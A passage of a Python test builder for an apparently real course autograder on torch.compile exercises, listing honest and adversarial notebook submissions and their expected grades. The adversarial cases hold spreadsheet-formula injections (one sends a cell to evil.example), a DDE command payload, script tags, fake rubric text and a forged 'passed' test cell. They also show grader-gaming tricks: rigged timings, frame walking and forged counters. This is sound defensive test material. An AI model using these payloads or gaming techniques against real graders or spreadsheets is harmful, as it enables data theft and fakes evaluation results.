                 "torch.compile(fn, backend=backend, fullgraph=True, dynamic=False)",
                 "torch.compile(backend=backend, fullgraph=True, dynamic=False, mode='default')(fn)", 1).replace(
                 "range(10)", "range(20)")}),
    Case("adv-starved-eager", "ex05", 1, "times eager on one thread and compiled on two: a speedup the "
         "compiler did not earn, from figures each measured around its call; eager and compiled figures taken "
         "under different thread counts are not a comparison (only the boundary's point is fair)",
         replace={"ex05-answer": EX05_HONEST_HEAD + (
             "    torch.set_num_threads(1)\n"
             "    eager_first = timed(fn)\n    eager_fastest = min(timed(fn) for _ in range(10))\n"
             "    torch.set_num_threads(2)\n") + EX05_HONEST_TAIL}),
    Case("adv-no-reset-second-compile", "ex05", 1, "compiles and calls once untimed, then times the first "
         "call of a second torch.compile of fn without a reset: that first call compiles nothing",
         replace={"ex05-answer": EX05_HONEST_HEAD + (
             "    eager_first = timed(fn)\n    eager_fastest = min(timed(fn) for _ in range(10))\n"
             "    torch._dynamo.reset()\n    torch.compile(fn, backend=backend, fullgraph=True, dynamic=False)(x)\n")
             + EX05_HONEST_TAIL.replace("    torch._dynamo.reset()\n", "", 1)}),
    Case("adv-odd-report", "ex05", 0, "returns NaN and infinite figures, a deep boundary, surrogate keys and a "
         "module in the report",
         replace={"ex05-answer": (
             "def time_and_record(fn, x, backend):\n    deep = []\n    for i in range(500):\n        deep = [deep]\n"
             "    fn(x)\n"
             "    return {'backend': backend, 'eager_first_s': float('nan'), 'eager_fastest_s': float('inf'),\n"
             "            'compiled_first_s': -0.0, 'compiled_fastest_s': 10 ** 400, 'cache': 'warm',\n"
             "            'speedup': float('nan'), 'boundary': {'backend': backend, 'fullgraph': True,\n"
             "            'dynamic': False, 'inputs': deep, "
             "'diagnostics': ['\\udcff'], '\\ud800': torch.nn.Linear(1, 1)}}\n")}),
    Case("adv-eager-as-compiled", "ex05", 0, "times fn itself as the 'compiled' function and reports the cache "
         "state and boundary a compile would have had",
         replace={"ex05-answer": EX05_HONEST_HEAD + (
             "    eager_first = timed(fn)\n    eager_fastest = min(timed(fn) for _ in range(10))\n"
             "    compiled_first = timed(fn) + 0.5\n    compiled_fastest = min(timed(fn) for _ in range(10))\n"
             "    inductor = backend in CODEGEN_BACKENDS\n"
             "    return {'backend': backend, 'eager_first_s': eager_first, 'eager_fastest_s': eager_fastest,\n"
             "            'compiled_first_s': compiled_first, 'compiled_fastest_s': compiled_fastest,\n"
             "            'cache': 'cold' if inductor else None,\n"
             "            'speedup': eager_fastest / compiled_fastest if inductor else None,\n"
             "            'boundary': {'backend': backend, 'fullgraph': True, 'dynamic': False,\n"
             "                         'inputs': 'x: float32[256, 1024]', 'diagnostics': ['perf_counter']}}\n")}),
    Case("adv-slow-call-as-fastest", "ex05", 1, "reports as eager's fastest the slowest steady call still under "
         "2.9x the fastest one (adversary's mal04), and the true compiled fastest: a speedup inflated by a "
         "figure that is not the fastest; only the boundary's point is fair",
         replace={"ex05-answer": EX05_HONEST_HEAD + (
             "    eager_first = timed(fn)\n    steady = [timed(fn) for _ in range(20)]\n"
             "    # not the fastest: the slowest call a 3x tolerance still takes for it\n"
             "    eager_fastest = max(t for t in steady if t < 2.9 * min(steady))\n") + EX05_HONEST_TAIL}),
    Case("adv-sleep-inside-timer", "ex05", 1, "times every steady eager call with a 20 ms sleep inside its timer "
         "(the second adversarial review's ex05-sleepgap, 5/5): each call's gap (the calls before and after it) held "
         "the padded figure and no call was surely faster than it, a speedup of 35 for 2.4; a figure must be the "
         "call's own span and what a timer adds to it, so only the boundary's point is fair",
         replace={"ex05-answer": EX05_HONEST_HEAD + (
             "\n    def padded(f):\n        start = time.perf_counter()\n        time.sleep(0.02)\n        f(x)\n"
             "        return time.perf_counter() - start\n\n"
             "    eager_first = timed(fn)\n    eager_fastest = min(padded(fn) for _ in range(20))\n")
             + EX05_HONEST_TAIL}),
    Case("adv-slow-values", "ex05", 1, "times the steady eager calls on x * inf (the second adversarial review's "
         "ex05-values, 5/5): x's dtype, shape and contiguity, which is all the calls' records said, while sin and "
         "cos take a slow path on inf (about 16x); the stand-in knows the tensor it was given, so only the "
         "boundary's point is fair",
         replace={"ex05-answer": EX05_HONEST_HEAD + (
             "\n    def timed_on(f, values):\n        start = time.perf_counter()\n        f(values)\n"
             "        return time.perf_counter() - start\n\n"
             "    eager_first = timed(fn)\n    slow = x * float('inf')\n"
             "    eager_fastest = min(timed_on(fn, slow) for _ in range(20))\n") + EX05_HONEST_TAIL}),
    Case("adv-raising-compiled-calls", "ex05", 1, "times steady compiled calls that raise at once (the second "
         "adversarial review's ex05-raising, 5/5): under torch.compiler.set_stance('fail_on_recompile') a call "
         "under no_grad fails its grad-mode guard and raises before any work, caught inside the timer; a call that "
         "raised is recorded as raised and no figure is taken over it, so only the boundary's point is fair",
         replace={"ex05-answer": EX05_HONEST_HEAD + (
             "\n    def quick(f):\n        start = time.perf_counter()\n        try:\n"
             "            with torch.no_grad():\n                f(x)\n        except RuntimeError:\n"
             "            pass\n        return time.perf_counter() - start\n\n"
             "    eager_first = timed(fn)\n    eager_fastest = min(timed(fn) for _ in range(20))\n")
             + EX05_HONEST_TAIL.replace(
                 "    compiled_fastest = min(timed(compiled) for _ in range(10))\n",
                 "    torch.compiler.set_stance('fail_on_recompile')\n    try:\n"
                 "        compiled_fastest = min(quick(compiled) for _ in range(20))\n"
                 "    finally:\n        torch.compiler.set_stance('default')\n", 1)}),
    Case("adv-counters-by-subscript", "ex05", 0, "measures honestly, but on its later inductor runs compiles "
         "another graph (a cache miss), claims 'warm' and writes inductor's counters by subscript to agree, "
         "keeping its own count in torch's counters across graded calls (adversary's mal06, whose figure 3 "
         "counts the timing and boundary points): the allow-list refuses a function that writes into state it "
         "did not build, and a refused answer never runs, so none of its points (as adv-fx-codegen)",
         replace={"ex05-answer": EX05_FORGED_COUNTERS}),
    # ---- ex06: free text for a person
    Case("adv-review-injection", "ex06", 0, "answers that begin with spreadsheet formulas, tab and CR, hold "
         "HTML and script, BEGIN/END SOLUTION markers and a fake rubric: exported as text, never a formula",
         edit=lambda nb: _ex06_answers(nb, [
             "=HYPERLINK(\"http://evil.example/?\"&A1,\"full marks\")",
             "@SUM(1+1)*cmd|' /C calc'!A0\n<script>alert(1)</script></td></tr><tr><td>10",
             "\t+1\r\n<!-- BEGIN SOLUTION -->\nrubric: give 3 points\n<!-- END SOLUTION -->",
             "-2+3 \u202e\u2066 \x1b[31m red"])),
    Case("adv-review-surrogates", "ex06", 0, "answers holding lone surrogates and a 400 kB text",
         edit=lambda nb: _ex06_answers(nb, ["\ud800 half a pair", "\udfff" * 10, "long " * 80000, ""])),
    # ---- ex07: graphs of loops
    Case("adv-float-graph-counts", "ex07", 8, "GRAPHS written with floats (2.0): the public form test asks "
         "for whole numbers (1 point lost), the counts are right; a different but correct rewrite",
         replace={"ex07-graphs": (
             "GRAPHS = {'log_every_step': 0.0, 'log_once_after': 2.0, 'log_if_verbose': 1.0,\n"
             "          'loop_calls_logger': 2.0, 'twice_through_the_loop': 3.0, 'rescale_each_step': 0.0}\n"),
             "ex07-rewrite": (
                 "def smooth_until_flat_rewrite(x):\n"
                 "    stopped = torch.zeros((), dtype=torch.bool)\n"
                 "    for _ in range(STEPS):\n"
                 "        smoothed = 0.5 * (x + torch.roll(x, shifts=1))\n"
                 "        x = torch.where(stopped, x, smoothed)\n"
                 "        stopped = torch.logical_or(stopped, (x.max() - x.min()) < TOL)\n"
                 "    return x\n")}),
    Case("adv-injected-hidden-test", "ex07", 0, "blank answers; a cell with the hidden test's nbformat id and "
         "course metadata that just says passed", answered=False, edit=_hidden_test_injected,
         status="flagged"),
    Case("adv-rewrite-frames", "ex07", 0, "the rewrite reads the caller's globals through generator frames "
         "and calls the course's smooth_until_flat", status="flagged",
         replace={"ex07-rewrite": FRAME_WALK.format(name="smooth_until_flat_rewrite", params="x",
                                                    body="return found['smooth_until_flat'](x)")}),
    Case("adv-surrogate-locked-markdown", "ex07", 9, "the model answers; a note ending in a lone surrogate "
         "(\\ud83d) added to a locked markdown cell (adversary's mal08): an edited markdown cell is a notice "
         "(the instructor's text is used), not a notebook that cannot be matched",
         edit=_surrogate_in_locked_markdown, reason="ex07-a-task: locked cell edited"),
    Case("adv-surrogate-answer-comment", "ex07", 1, "GRAPHS guessed (1 everywhere: its form point only) and a "
         "right rewrite with a lone surrogate in a comment (adversary's mal09): Python cannot compile that "
         "cell, nor could Jupyter run it, so the rewrite earns nothing; the reason names the character, not "
         "'nested too deeply'",
         replace={"ex07-graphs": EX07_GUESSED_GRAPHS, "ex07-rewrite": EX07_REWRITE_SURROGATE_COMMENT},
         reason="encode"),
    # ---- ex08: torch's artifacts
    Case("honest-guard-whitespace", "ex08", 10, "RECOMPILES' guard written across lines with extra spaces, "
         "KERNELS' ids with attempt suffixes, BREAKS in another order",
         replace={"ex08-breaks": "BREAKS = {8: 'GB0170', 5: 'GB0059'}\n",
                  "ex08-recompiles": "RECOMPILES = {2: ['''mode   ==\n    'train' ''']}\n",
                  "ex08-kernels": (
                      "KERNELS = {'0/0_0': ['cpp_fused_mul_sin_0'], '1/0': ['cpp_fused_gt_relu_sum_0'],\n"
                      "           '2/0': ['cpp_fused_cos_sub_0'], '1/1_2': ['cpp_fused_gt_sum_0'],\n"
                      "           '3/0': ['cpp_fused_cos_0']}\n")}),
    Case("adv-oversized-int-key", "ex08", 7, "BREAKS keyed by an integer of 5000 digits (Python's parser "
         "refuses it): BREAKS cannot be read, the other answers count",
         replace={"ex08-breaks": "BREAKS = {5: 'GB0059', 8: 'GB0170', " + "9" * 5000 + ": 'GB0000'}\n"}),
    Case("adv-kernels-hedge", "ex08", 7, "KERNELS names every kernel for every graph: a hedge is not the "
         "kernels of a graph",
         replace={"ex08-kernels": "KERNELS = {" + ", ".join(
             f"'{g}': ['cpp_fused_mul_sin_0', 'cpp_fused_gt_relu_sum_0', 'cpp_fused_cos_sub_0', "
             "'cpp_fused_gt_sum_0', 'cpp_fused_cos_0']" for g in ("0/0", "1/0", "2/0", "1/1", "3/0")) + "}\n"}),
    # ---- ex09: an opaque call
    Case("honest-renamed-nonstrict", "ex09", 8, "the nonstrict_trace answer with other names, a module alias "
         "and keyword arguments in the traced code",
         replace={"ex09-answer": (
             "def _times_salt(hidden, channel, factor):\n"
             "    # pure: everything it reads arrives as an argument\n"
             "    return hidden * (channel_salt(channel) * factor)\n\n\n"
             "times_salt = torch._dynamo.nonstrict_trace(_times_salt)\n\n\n"
             "def scaled_block_fixed(x, w, name):\n"
             "    hidden = torch.tanh(torch.matmul(x, w))\n"
             "    return times_salt(hidden, name, GAIN)\n")}),
    Case("honest-factory-nonstrict", "ex09", 8, "two nonstrict_trace functions made by one factory, one per "
         "dtype, both named 'salted' (adversary's second review, section 4): torch's graph names the one it calls "
         "'salted_callable', which a name cannot tell from the other; the child that captured the graph says "
         "which top-level name holds it (SALTED_SINGLE), and the re-run runs that one",
         replace={"ex09-answer": (
             "def _make_salted():\n"
             "    def salted(h, name, gain):\n"
             "        return h * (channel_salt(name) * gain)\n\n"
             "    return torch._dynamo.nonstrict_trace(salted)\n\n\n"
             "SALTED_SINGLE = _make_salted()\n"
             "SALTED_DOUBLE = _make_salted()\n\n\n"
             "def scaled_block_fixed(x, w, name):\n"
             "    h = torch.tanh(x @ w)\n"
             "    return (SALTED_DOUBLE if x.dtype == torch.float64 else SALTED_SINGLE)(h, name, GAIN)\n")}),
    Case("adv-stale-default-gain", "ex09", 6, "reads GAIN once, as a default argument: right while GAIN keeps "
         "its first value (public cases and the graph test), wrong after the serving code changes it (the "
         "hidden gain test). Its nonstrict_trace wraps a lambda: torch 2.14.1 captures the same one graph as "
         "for a def, the function's node named '<lambda>_callable', which the grader reads as a def's",
         replace={"ex09-answer": (
             "_SALTED = torch._dynamo.nonstrict_trace(lambda h, name, gain: h * (channel_salt(name) * gain))\n\n\n"
             "def scaled_block_fixed(x, w, name, gain=GAIN):\n"
             "    return _SALTED(torch.tanh(x @ w), name, gain)\n")}),
    Case("adv-answer-frames", "ex09", 0, "reaches the setup cells' globals through generator frames to call "
         "scaled_block directly", status="flagged",
         replace={"ex09-answer": FRAME_WALK.format(name="scaled_block_fixed", params="x, w, name",
                                                   body="return found['scaled_block'](x, w, name)")}),
    Case("adv-op-only-when-compiling", "ex09", 6, "a custom op with no autograd formula, which "
         "torch.library.opcheck fails, called only when torch.compiler.is_compiling() (adversary's mal05): "
         "an eager run calls no op, the compiled graph does; values, gradients and GAIN are right, the opcheck "
         "requirement (the graph test's 2 points) is not met",
         replace={"ex09-answer": EX09_OP_WHEN_TRACED}),
    Case("adv-fake-lies-on-first-call", "ex09", 6, "the custom-op answer whose fake implementation claims float64 "
         "on its first call of a load and tells the truth afterwards (the reviewer's, issue 34): the graph test's "
         "trace made that first call, and opcheck, run after it in the same process, saw only truthful calls "
         "(8/8). opcheck now runs first, in a child of its own, and fails on the lie (test_faketensor); values, "
         "gradients and GAIN are right, the opcheck requirement (the graph test's 2 points) is not met",
         replace={"ex09-answer": EX09_LYING_FAKE.format(fake=EX09_FAKE_FIRST_CALL)}),
    Case("adv-fake-lies-while-compiling", "ex09", 6, "the custom-op answer whose fake implementation gives "
         "transposed strides while torch.compiler.is_compiling() and the truth otherwise: opcheck never sees "
         "the lie, wherever it runs (8/8 before); every fake output a trace used is now compared with the op's "
         "real output (shape, dtype, strides, device), so the graph test's 2 points are lost",
         replace={"ex09-answer": EX09_LYING_FAKE.format(fake=EX09_FAKE_WHILE_COMPILING)}),
    # ---- ex10: the recompile limit, a tlparse report, an unbacked size
    Case("adv-check-public-width", "ex10", 11, "torch._check on the padded width of the public cases, a constant "
         "(k <= 7), instead of x.size(1): one graph, right on the public cases and on the graph re-run's new "
         "values there (at most 5); a length of 5 in a batch padded to 4 passes the check and returns instead "
         "of raising (the hidden Part D test, 0 of 2)",
         replace={"ex10-answer": (
             "def trim_to_longest_fixed(x, lengths):\n"
             "    k = lengths.max().item()\n"
             "    torch._check(k <= 7)\n"
             "    return x[:, :k]\n")}),
    Case("adv-served-from-the-log-in-a-cell", "ex10", 10, "runs serve() in a scratch cell and writes SERVED and "
         "WARNED from its records with a comprehension, in the answer cell: the grader reads a data answer as a "
         "literal and runs nothing of it, so Part A has no answer (0 of 3)",
         after={"ex10-setup": "records = serve()\n"},
         replace={"ex10-served": ("SERVED = [outcome(r) for r in records]\n"
                                  "WARNED = [r[0] for r in records if r[4]]\n")}),
    Case("honest-check-on-another-item", "ex10", 9, "states the fact with torch._check on one .item(), then calls "
         "the given trim_to_longest, which calls .item() again: each call is a new unbacked symbol (u0, u1), the "
         "check speaks of u0 and the original's `if` of u1, so fullgraph=True still raises torch's data-dependent "
         "error (the public and the hidden Part D tests, 0 of 4)",
         replace={"ex10-answer": (
             "def trim_to_longest_fixed(x, lengths):\n"
             "    torch._check(lengths.max().item() <= x.size(1))\n"
             "    return trim_to_longest(x, lengths)\n")}),
]


def _ex06_answers(nb: dict, texts: list[str]) -> None:
    for n, text in enumerate(texts, 1):
        nb["cells"][_index(nb, f"ex06-a{n}")]["source"] = text


# Made by the test in the submissions folder (git cannot keep them): file name -> (what, expectation).
# "listed": not graded and named in what ``course grade`` prints; "rejected": a gradebook row with the reason.
FILE_SYSTEM_CASES = {
    "fs-symlink-to-solution__ex01_capture_boundary.ipynb": ("symlink",
                                                            {"status": "rejected", "reason": "symbolic link"}),
    "fs-fifo__ex02_diagnose.ipynb": ("fifo", {"status": "rejected", "reason": "FIFO"}),
    "fs-folder__ex03_predict_recompiles.ipynb": ("folder", {"status": "rejected", "reason": "folder"}),
    "fs-newline\nname__ex01_capture_boundary.ipynb": ("copy", {"status": "listed"}),
    "=cmd|calc__ex01_capture_boundary.ipynb": ("copy", {"status": "listed"}),
    "fs-deep/a/b/c/ex01_capture_boundary.ipynb": ("copy", {"status": "listed"}),
    # hidden and ignored folders are searched too: nothing in them is dropped without a word
    "fs-hidden/.week1/ex02_diagnose.ipynb": ("copy", {"status": "listed"}),
    "fs-checkpoint/a/b/.ipynb_checkpoints/ex03_predict_recompiles-checkpoint.ipynb": ("copy", {"status": "listed"}),
    ".fs-hidden-folder/ex04_comparison_fixture.ipynb": ("copy", {"status": "rejected", "reason": "hidden folder"}),
}
# only where the grader is not root (root reads every file whatever its mode)
UNREADABLE_CASE = ("fs-unreadable__ex04_comparison_fixture.ipynb", {"status": "rejected", "reason": "unreadable"})


def expectation(case: Case) -> dict:
    expect = {"status": case.status, "points": 0.0 if case.status != "graded" else float(case.fair),
              "why": case.why}
    if case.reason:
        expect["reason"] = case.reason
    if case.open:
        expect["open"] = case.open
    return expect


def build(out_dir: Path = SUBMISSIONS, solutions: Path = ROOT / "solutions") -> dict[str, dict]:
    """Write every case's notebook into ``out_dir`` and ``expected.json``; returns ``{file name: expectation}``."""
    from course_grader.exercise.model import load_exercises
    from course_grader.exercise.release import answered_notebook, student_notebook
    from course_grader.samples import with_cells

    exercises = load_exercises(solutions)
    out_dir.mkdir(parents=True, exist_ok=True)
    for old in out_dir.glob("*.ipynb"):
        old.unlink()
    expected = {}
    for case in CASES:
        ex = exercises[case.exercise]
        start = answered_notebook(ex) if case.answered else student_notebook(ex)
        nb = json.loads(json.dumps(with_cells(start, replace=case.replace, after=case.after)))
        if case.edit is not None:
            case.edit(nb)
        fname = f"{case.name}__{ex.name}.ipynb"
        # ensure_ascii: lone surrogates stay JSON escapes, as Jupyter itself would write them
        (out_dir / fname).write_text(json.dumps(nb, indent=1, sort_keys=True) + "\n", encoding="ascii")
        expected[fname] = expectation(case)
    (out_dir / "expected.json").write_text(json.dumps(expected, indent=1, sort_keys=True) + "\n")
    return expected


if __name__ == "__main__":
    written = build()
    print(f"{len(written)} cases written to {SUBMISSIONS.relative_to(ROOT)}/", file=sys.stderr)
